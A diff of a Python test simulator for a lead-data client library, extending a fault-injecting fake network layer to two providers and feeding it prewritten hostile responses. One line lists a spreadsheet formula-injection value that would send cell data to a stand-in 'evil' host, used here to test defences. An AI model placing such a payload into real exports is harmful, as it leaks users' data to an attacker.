@@ -15,7 +15,8 @@ from typing import Any
 
 from leadkit.errors import AnswerLostError, BadAnswerError, NotSentError
 from leadkit.providers.base import Request, Response
-from tests.simulation.provider import Provider, Reply
+from tests.simulation.protocol import PROTOCOLS, Reply
+from tests.simulation.provider import Provider
 from tests.simulation.schedule import HTTP_FAULTS, NETWORK_FAULTS, Schedule
 from tests.simulation.scheduler import Process, Scheduler
 
@@ -33,13 +34,21 @@ _RETRY_AFTER = (
     "Mon, 02 Mar 2026 09:10:00 GMT",
 )
 _ENDS_RUN = ("no_credits", "key_refused", "scope_refused", "error_in_200", "over_price")
-_HOSTILE: list[dict[str, Any]] = [
-    case
-    for case in json.loads((Path(__file__).parent.parent / "providers" / "hostile.json").read_text())["cases"]
-    if case["operation"] == "POST /leads/unlock"
-    and "body" in case["http"]
-    and not case["http"].get("transport")
-]
+_CASES = json.loads((Path(__file__).parent.parent / "providers" / "hostile.json").read_text())["cases"]
+#: By provider, those about one person that have a body.
+_HOSTILE: dict[str, list[dict[str, Any]]] = {
+    provider: [
+        case
+        for case in _CASES
+        if case["operation"] == operation and "body" in case["http"] and not case["http"].get("transport")
+    ]
+    for provider, operation in (("leadleap", "POST /leads/unlock"), ("leadiq", "POST /graphql searchPeople"))
+}
+_TIRED = {
+    "asked": {"id": "-"},
+    "http": {"status": 500, "headers": {}, "body": "["},
+    "expect": {"charge_milli": {"lo": 0, "hi": 0}},
+}
 
 
 class Wire:
@@ -59,6 +68,7 @@ class Wire:
         self._provider = provider
         self._rng = rng
         self._look = look  # the checker, after everything that the provider does
+        self._protocol = PROTOCOLS[schedule.provider]
         kinds = (*NETWORK_FAULTS, *HTTP_FAULTS)
         self._faults = [kind for kind in schedule.faults if kind in kinds]
 
@@ -66,7 +76,7 @@ class Wire:
         task = self._scheduler.task
         assert task is not None
         task.naps = 0
-        asked = request.json.get("emails") or [request.json["lead_id"]] if request.json else []
+        asked = self._protocol.asked(request)
         self._scheduler.pause(f"sends {request.path} {' '.join(asked)}", within=60.0)
         fault = self._fault()
         self._scheduler.note(task.process, f"  meets {fault}" if fault else "  is heard")
@@ -103,7 +113,7 @@ class Wire:
             return _lost()
         if not asked:
             return self._of_usage(fault)
-        if refusal := self._refusal(fault):
+        if refusal := self._refusal(fault, request):
             return refusal
         if fault == "hostile":
             return self._hostile(asked)
@@ -111,14 +121,14 @@ class Wire:
         if fault == "delivered_twice":
             self._carry_out(asked, fault)
         self._look(f"after {' '.join(asked)} was carried out")
-        return self._on_the_way_back(reply, asked, fault)
+        return self._on_the_way_back(reply, request, fault)
 
     def _of_usage(self, fault: str) -> Response | Exception:
         if fault.endswith("_after") or fault in ("limited", "key_refused", "html_in_200_before"):
             return _HTML
-        return Response(200, _JSON, self._provider.usage().bytes())
+        return Response(200, _JSON, self._protocol.usage(*self._provider.usage()))
 
-    def _refusal(self, fault: str) -> Response | None:
+    def _refusal(self, fault: str, request: Request) -> Response | None:
         """An answer to a request that is not carried out."""
         codes = {
             "no_credits": (402, "CREDITS_EXHAUSTED"),
@@ -139,35 +149,41 @@ class Wire:
         headers = dict(_JSON)
         if fault == "limited":
             headers["retry-after"] = self._rng.choice(_RETRY_AFTER)
-        return Response(status, headers, Reply(status, error=code, reports_cost=False).bytes())
+        return Response(status, headers, self._error(status, code, request))
+
+    def _error(self, status: int, code: str, request: Request) -> bytes:
+        return self._protocol.answer(Reply(status, error=code, reports_cost=False), request)
 
     def _carry_out(self, asked: list[str], fault: str) -> Reply:
         now = self._scheduler.now
+        if self._schedule.provider == "leadiq":
+            return self._provider.find(asked, now, over_price=fault == "over_price")
         if self._schedule.step == "validate_emails":
             return self._provider.validate(asked, now)
         return self._provider.unlock(asked[0], now, over_price=fault == "over_price")
 
-    def _on_the_way_back(self, reply: Reply, asked: list[str], fault: str) -> Response | Exception:
+    def _on_the_way_back(self, reply: Reply, request: Request, fault: str) -> Response | Exception:
         if fault == "timeout_after":
             return _lost()
         if fault == "redirect_after":
             return BadAnswerError("LeadLeap: the answer is a redirect.", provider="leadleap")
         if fault == "error_after":
             status = self._rng.choice((500, 503))
-            return Response(status, _JSON, Reply(status, error="INTERNAL_ERROR", reports_cost=False).bytes())
+            return Response(status, _JSON, self._error(status, "INTERNAL_ERROR", request))
         if fault == "html_in_200_after":
             return dataclasses.replace(_HTML, status=200)
         if not reply.error:
             reply = self._distorted(reply, fault)
-        body = reply.bytes()
+        body = self._protocol.answer(reply, request)
         if fault == "reset_midway":
             return _lost(body[: len(body) // 2])
         if fault == "truncated_after":
             return Response(reply.status, _JSON, body[: self._rng.randrange(1, len(body) - 1)])
         for item in reply.items:
-            self._provider.sent(item.get("id") or item["email"], item.get("full_name") or item.get("reason"))
+            if "refused" not in item:
+                self._provider.sent(self._id(item), item.get("full_name") or item.get("reason"))
         if fault == "no_data_after" and not reply.error:
-            body = json.dumps({**reply.body(), "data": None}).encode()
+            body = self._protocol.answer(dataclasses.replace(reply, no_data=True), request)
         return Response(reply.status, _JSON, body)
 
     def _distorted(self, reply: Reply, fault: str) -> Reply:
@@ -176,7 +192,9 @@ class Wire:
             items = (
                 items[:-1] if len(items) > 1 else [{k: v for k, v in items[0].items() if k != "job_title"}]
             )
-        elif fault == "reordered":
+        elif (
+            fault == "reordered" and self._schedule.provider == "leadleap"
+        ):  # under aliases there is no order
             items = items[::-1]
         elif fault == "wrong_id_after":
             others = [entity for entity in sorted(self._provider.prices) if entity != self._id(items[0])]
@@ -186,25 +204,30 @@ class Wire:
 
     def _hostile(self, asked: list[str]) -> Response:
         """An answer that was written beforehand. What it says of its cost is what it costs."""
-        entity, now = asked[0], self._scheduler.now
-        first = entity not in self._provider.owned_since and self._schedule.price == 1000
-        fits = [case for case in _HOSTILE if first or case["expect"]["charge_milli"]["hi"] == 0]
-        case = self._rng.choice(fits)
-        listed = case["expect"]["charge_milli"]
-        cost = listed["lo"] if listed["lo"] == listed["hi"] else self._rng.choice((0, 1000))
-        if self._schedule.step == "validate_emails" or not self._provider._can_pay(cost):
-            case, cost = {"asked": {"lead_id": "-"}, "http": {"status": 500, "headers": {}, "body": "["}}, 0
+        entity, now, price = asked[0], self._scheduler.now, self._schedule.price
+        cases = _HOSTILE[self._schedule.provider]
+        if self._schedule.provider == "leadiq":
+            first = entity not in self._provider.owned_since
+            case = self._rng.choice(cases)
+            cost = self._rng.choice((0, price)) if first and case["expect"]["charge_milli"]["hi"] else 0
+        else:
+            first = entity not in self._provider.owned_since and price == 1000
+            case = self._rng.choice([c for c in cases if first or c["expect"]["charge_milli"]["hi"] == 0])
+            listed = case["expect"]["charge_milli"]
+            cost = listed["lo"] if listed["lo"] == listed["hi"] else self._rng.choice((0, 1000))
+        if self._schedule.step != "unlock" or len(asked) > 1 or not self._provider._can_pay(cost):
+            case, cost = _TIRED, 0
         if cost:
             self._provider.charge_by_hand(entity, cost, now)
             self._look(f"after {entity} was carried out")
-        for name in (
-            "Sarah Mitchell",
-            "Sarah",
-            '=HYPERLINK("http://evil/?"&A1,"x")',
-        ):  # in all of these bodies
+        # What all of these bodies say: names, or that there is nobody.
+        names = ("Sarah Mitchell", "Sarah", '=HYPERLINK("http://evil/?"&A1,"x")')
+        for name in names if self._schedule.provider == "leadleap" else (None,):
             self._provider.sent(entity, name)
         http = case["http"]
-        body = http["body"].replace(case["asked"]["lead_id"], entity).encode("utf-8", "surrogatepass")
+        body = (
+            http["body"].replace(next(iter(case["asked"].values())), entity).encode("utf-8", "surrogatepass")
+        )
         return Response(http["status"], http["headers"], body)
 
     @staticmethod
